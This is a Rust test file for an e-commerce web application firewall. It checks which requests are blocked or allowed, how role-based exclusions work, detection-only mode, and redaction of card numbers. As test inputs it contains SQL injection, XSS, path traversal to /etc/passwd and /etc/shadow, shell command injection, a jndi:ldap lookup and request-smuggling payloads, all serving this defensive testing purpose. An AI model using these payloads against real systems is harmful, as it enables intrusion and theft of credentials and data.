//! The embedded rule set: attacks are blocked, realistic customer input is
//! not, exclusions let exactly the intended role through, and verdicts carry
//! what a security event needs.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use ironcart_waf::{
    Action, Context, Exclusion, Mode, Paranoia, Request, RuleSelector, Verdict, Waf,
};

fn waf() -> Waf {
    Waf::with_default_rules().unwrap()
}

fn get(waf: &Waf, target: &str) -> Verdict {
    waf.inspect(&Request::new("GET", target), &Context::anonymous())
}

fn post_json(waf: &Waf, path: &str, body: &str, context: &Context<'_>) -> Verdict {
    let request = Request::new("POST", path)
        .header("Content-Type", "application/json")
        .body(body.as_bytes());
    waf.inspect(&request, context)
}

fn post_form(waf: &Waf, path: &str, body: &str) -> Verdict {
    let request = Request::new("POST", path)
        .header("Content-Type", "application/x-www-form-urlencoded")
        .body(body.as_bytes());
    waf.inspect(&request, &Context::anonymous())
}

#[test]
fn embedded_rules_load_without_warnings() {
    let waf = waf();
    assert!(waf.rule_count() > 20, "{} rules", waf.rule_count());
    assert_eq!(waf.warnings(), &[] as &[String]);
}

#[test]
fn sql_injection_is_blocked_wherever_it_hides() {
    let waf = waf();
    let query = get(&waf, "/products?q=1%27%20OR%20%271%27%3D%271");
    assert_eq!(query.action, Action::Block, "{query:?}");
    assert!(query.rule_ids().contains(&10400));
    assert!(query.anomaly_score >= 5);

    let json = post_json(
        &waf,
        "/search",
        r#"{"q":"x' UNION SELECT password FROM users--"}"#,
        &Context::anonymous(),
    );
    assert!(json.is_blocked(), "{json:?}");
    let sqli = json.matched.iter().find(|m| m.rule_id == 10400).unwrap();
    assert_eq!(sqli.variable, "ARGS:json.q");

    let cookie = waf.inspect(
        &Request::new("GET", "/cart").header("Cookie", "cart=1; pref=1' or sleep(5)#"),
        &Context::anonymous(),
    );
    assert!(cookie.is_blocked(), "{cookie:?}");
}

#[test]
fn xss_traversal_and_command_injection_are_blocked() {
    let waf = waf();
    for target in [
        "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
        "/files?name=..%2F..%2Fetc%2Fpasswd",
        "/files?name=%252e%252e%252fsecret",
        "/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fshadow",
        "/ping?host=x%7Cwhoami",
        "/ping?host=%24(id)",
        "/x?u=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D",
    ] {
        let verdict = get(&waf, target);
        assert!(verdict.is_blocked(), "{target} was allowed: {verdict:?}");
    }
}

#[test]
fn protocol_violations_are_blocked() {
    let waf = waf();
    let method = waf.inspect(&Request::new("TRACK", "/"), &Context::anonymous());
    assert!(method.rule_ids().contains(&10100), "{method:?}");
    let broken_json = post_json(&waf, "/cart", "{\"sku\":", &Context::anonymous());
    assert!(broken_json.is_blocked());
    assert!(broken_json.rule_ids().contains(&10105));
    let smuggling = waf.inspect(
        &Request::new("POST", "/")
            .header("Content-Length", "4")
            .header("Transfer-Encoding", "chunked"),
        &Context::anonymous(),
    );
    assert!(smuggling.is_blocked());
    let scanner = waf.inspect(
        &Request::new("GET", "/").header("User-Agent", "sqlmap/1.7"),
        &Context::anonymous(),
    );
    assert!(scanner.is_blocked());
}

#[test]
fn realistic_customer_input_passes_at_default_paranoia() {
    let waf = waf();
    let searches = [
        "select",
        "drop earrings",
        "union jack",
        "1=1 mug",
        "O'Brien",
        "rock & roll t-shirt",
        "50% off",
        "size 10 1/2",
        "\"quoted\" phrase",
        "Tom's & Jerry's",
        "C# for dummies",
        "curl cream",
        "cat toy; dog bowl",
        "ls-400 lens",
        "men's shoes -leather",
        "<3 love mug",
        "café crème",
        "1' x 2' rug",
        "where is my order",
        "delete my account",
        "or else",
    ];
    for search in searches {
        let body = serde_json::json!({ "q": search }).to_string();
        let verdict = post_json(&waf, "/search", &body, &Context::anonymous());
        assert_eq!(
            verdict.action,
            Action::Allow,
            "search {search:?}: {verdict:?}"
        );
        assert_eq!(verdict.anomaly_score, 0, "search {search:?}: {verdict:?}");
    }

    let address = r#"{"name":"Siobhán O'Brien-Smith","line1":"12 Main St. Apt #4","line2":"c/o Smith & Sons; 2nd floor","city":"Coeur d'Alene","notes":"Ring twice -- dog barks! Leave @ back door (gate code #1234)"}"#;
    let verdict = post_json(&waf, "/checkout/address", address, &Context::anonymous());
    assert!(verdict.matched.is_empty(), "{verdict:?}");

    for password in [
        "x'9\"!--#a;DROP",
        "P@$$w0rd' OR '1'='1",
        "<script>!Q2w#E4r",
        "a&&b||c;`id`",
        "../../Tr0ub4dor&3",
    ] {
        let body = serde_json::json!({ "email": "a@b.example", "password": password }).to_string();
        let verdict = post_json(&waf, "/login", &body, &Context::anonymous());
        assert_eq!(
            verdict.action,
            Action::Allow,
            "password {password:?}: {verdict:?}"
        );
    }

    let form = post_form(
        &waf,
        "/contact",
        "name=Anne+O%27Neil&msg=Love+the+%22union+jack%22+mug%21+10%2F10+%26+will+buy+again",
    );
    assert!(form.matched.is_empty(), "{form:?}");
}

fn catalog_exclusion() -> Exclusion {
    Exclusion {
        name: "catalog managers write product HTML".into(),
        methods: vec!["POST".into(), "PUT".into()],
        path: Some("/admin/products/**".into()),
        route: None,
        roles: vec!["catalog_manager".into()],
        fields: vec!["json.body_html".into()],
        rules: vec![RuleSelector::Tag("attack-xss".into())],
    }
}

const SHOPIFY_HTML: &str = r#"<p>Our <strong>classic</strong> mug holds 350&nbsp;ml.</p><ul><li>Dishwasher safe</li><li>Made in <a href="https://example.com/about" target="_blank">Stoke</a></li></ul><img src="https://cdn.example.com/mug.jpg" alt="Mug" style="width: 100%;">"#;

#[test]
fn only_the_catalog_manager_may_send_html_and_only_in_body_html() {
    let waf = Waf::builder()
        .exclusion(catalog_exclusion())
        .build()
        .unwrap();
    let manager = Context::anonymous()
        .role("catalog_manager")
        .route("/admin/products/{id}");
    let customer = Context::anonymous().role("customer");
    let with_script =
        r#"{"title":"Mug","body_html":"<p>Hi</p><script>alert(document.cookie)</script>"}"#;

    let clean = serde_json::json!({ "title": "Mug", "body_html": SHOPIFY_HTML }).to_string();
    let verdict = post_json(&waf, "/admin/products/7", &clean, &manager);
    assert!(verdict.matched.is_empty(), "{verdict:?}");

    let managers_script = post_json(&waf, "/admin/products/7", with_script, &manager);
    assert_eq!(
        managers_script.action,
        Action::Allow,
        "exclusion should cover body_html"
    );

    let customers_script = post_json(&waf, "/admin/products/7", with_script, &customer);
    assert!(customers_script.is_blocked(), "{customers_script:?}");

    let script_in_title = r#"{"title":"<script>alert(1)</script>","body_html":"<p>x</p>"}"#;
    let verdict = post_json(&waf, "/admin/products/7", script_in_title, &manager);
    assert!(
        verdict.is_blocked(),
        "other fields stay inspected: {verdict:?}"
    );

    let other_route = post_json(&waf, "/reviews", with_script, &manager);
    assert!(other_route.is_blocked(), "other routes stay inspected");

    let sqli_in_html = r#"{"body_html":"1' OR '1'='1"}"#;
    let verdict = post_json(&waf, "/admin/products/7", sqli_in_html, &manager);
    assert!(
        verdict.is_blocked(),
        "only XSS rules are excluded: {verdict:?}"
    );
}

#[test]
fn exclusions_are_data() {
    let json = r#"[{"name":"imports","methods":["POST"],"path":"/admin/import","roles":["admin"],"rules":[{"ids":{"from":10000,"to":10999}}]}]"#;
    let exclusions: Vec<Exclusion> = serde_json::from_str(json).unwrap();
    let waf = Waf::builder().exclusions(exclusions).build().unwrap();
    let attack = r#"{"q":"<script>alert(1)</script>"}"#;
    let admin = Context::anonymous().role("admin");
    assert_eq!(
        post_json(&waf, "/admin/import", attack, &admin).action,
        Action::Allow
    );
    assert!(post_json(&waf, "/admin/import", attack, &Context::anonymous()).is_blocked());
}

#[test]
fn detection_only_reports_without_blocking() {
    let waf = Waf::builder().mode(Mode::DetectionOnly).build().unwrap();
    let verdict = get(&waf, "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E");
    assert_eq!(verdict.action, Action::Allow);
    assert!(verdict.would_block);
    assert!(verdict.anomaly_score >= 5);
    assert!(verdict.rule_ids().contains(&10990));
}

#[test]
fn paranoia_two_adds_stricter_rules() {
    let strict = Waf::builder()
        .paranoia(Paranoia::new(2).unwrap())
        .build()
        .unwrap();
    let html = r#"{"review":"<b>great</b> mug"}"#;
    assert!(
        post_json(&waf(), "/reviews", html, &Context::anonymous())
            .matched
            .is_empty()
    );
    let verdict = post_json(&strict, "/reviews", html, &Context::anonymous());
    assert!(verdict.rule_ids().contains(&10810), "{verdict:?}");
    assert_eq!(verdict.anomaly_score, 3);
    assert_eq!(
        verdict.action,
        Action::Allow,
        "one warning stays under the threshold"
    );
    assert!(Paranoia::new(5).is_none());
}

#[test]
fn threshold_override_changes_the_decision() {
    let lenient = Waf::builder().inbound_threshold(100).build().unwrap();
    let verdict = get(&lenient, "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E");
    assert_eq!(verdict.action, Action::Allow);
    assert!(verdict.anomaly_score >= 5);
}

#[test]
fn verdict_serialises_with_redacted_data() {
    let waf = waf();
    let body = r#"{"note":"card 4111 1111 1111 1111' OR '1'='1"}"#;
    let verdict = post_json(&waf, "/orders", body, &Context::anonymous());
    assert!(verdict.is_blocked());
    let event = serde_json::to_value(&verdict).unwrap();
    assert_eq!(event["action"], "block");
    let text = event.to_string();
    assert!(!text.contains("4111"), "card number leaked: {text}");
    assert!(text.contains("[card]"), "{text}");
    let first = &event["matched"][0];
    assert!(first["rule_id"].is_u64());
    assert!(first["data"].as_str().unwrap().chars().count() <= 65);
}

#[test]
fn multipart_fields_and_file_names_are_inspected() {
    let waf = waf();
    let body = "--B\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n<script>alert(1)</script>\r\n--B--\r\n";
    let request = Request::new("POST", "/upload")
        .header("Content-Type", "multipart/form-data; boundary=B")
        .body(body.as_bytes());
    let verdict = waf.inspect(&request, &Context::anonymous());
    assert!(verdict.is_blocked(), "{verdict:?}");
    let clean = "--B\r\nContent-Disposition: form-data; name=\"image\"; filename=\"mug.jpg\"\r\nContent-Type: image/jpeg\r\n\r\nJPEGDATA\r\n--B--\r\n";
    let request = Request::new("POST", "/upload")
        .header("Content-Type", "multipart/form-data; boundary=B")
        .body(clean.as_bytes());
    assert!(
        waf.inspect(&request, &Context::anonymous())
            .matched
            .is_empty()
    );
}
